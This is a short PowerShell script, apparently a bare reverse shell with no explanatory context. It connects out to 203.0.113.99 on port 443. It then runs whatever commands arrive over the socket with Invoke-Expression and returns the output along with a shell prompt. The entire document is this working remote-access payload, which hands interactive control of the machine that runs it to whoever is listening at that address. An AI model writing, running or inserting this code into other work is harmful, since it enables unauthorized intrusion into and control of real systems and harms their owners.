$client = New-Object System.Net.Sockets.TCPClient('203.0.113.99', 443)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$buffer = New-Object byte[] 65535

while (($n = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = [Text.Encoding]::ASCII.GetString($buffer, 0, $n)
    $result = (Invoke-Expression $cmd 2>&1 | Out-String)
    $writer.Write($result + 'PS ' + (Get-Location).Path + '> ')
    $writer.Flush()
}
$client.Close()
